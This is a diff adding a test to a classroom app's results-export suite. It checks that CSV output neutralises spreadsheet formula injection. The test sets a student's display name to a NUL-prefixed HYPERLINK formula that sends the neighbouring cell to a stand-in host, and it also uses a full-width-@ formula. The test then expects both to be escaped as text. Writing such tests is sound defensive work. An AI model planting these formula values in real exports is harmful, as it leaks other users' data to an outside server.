@@ -280,6 +280,29 @@ describe('reopen, export and forget', () => {
     expect(lines[2]).toBe('');
   });
 
+  it('exports a formula hidden behind a control character, or full-width, as text', async () => {
+    const { roomId, ids } = await roomWithStudents('results-export-formula');
+    const victim = await makeGuest(pb);
+    await renameGuest(victim.uuid, 'Victim', 'victim@school.test');
+    await submit(pb, victim, { Room: roomId, raw: { answers: [] } });
+    // LibreOffice's default import skips the NUL and reads a live formula pointing at the row above.
+    const attacker = await makeGuest(pb);
+    await renameGuest(attacker.uuid, '\u0000=HYPERLINK("http://x.test/?"&B2,"Open")', 'x@school.test');
+    await submit(pb, attacker, {
+      Room: roomId,
+      raw: { answers: [{ questionId: ids[0], value: '＠SUM(1)' }] },
+    });
+    const res = await fetch(`${pb.url}/api/room/results/${roomId}/export`, {
+      headers: { Authorization: member.token },
+    });
+    expect(res.status).toBe(200);
+    const lines = (await res.text()).replace(/^\ufeff/, '').split('\r\n');
+    const row = lines.find((line) => line.includes('HYPERLINK'))!;
+    expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/x\.test\/\?""&B2,""Open""\)",x@school\.test,submitted,/);
+    expect(row).toContain(",'＠SUM(1),");
+    expect(lines.join('\n')).not.toContain('\u0000');
+  });
+
   it('forgets one student: their draft and submission here, and the guest when nothing else is left', async () => {
     const { roomId, ids } = await roomWithStudents('results-forget');
     const other = await roomWithStudents('results-forget-other');
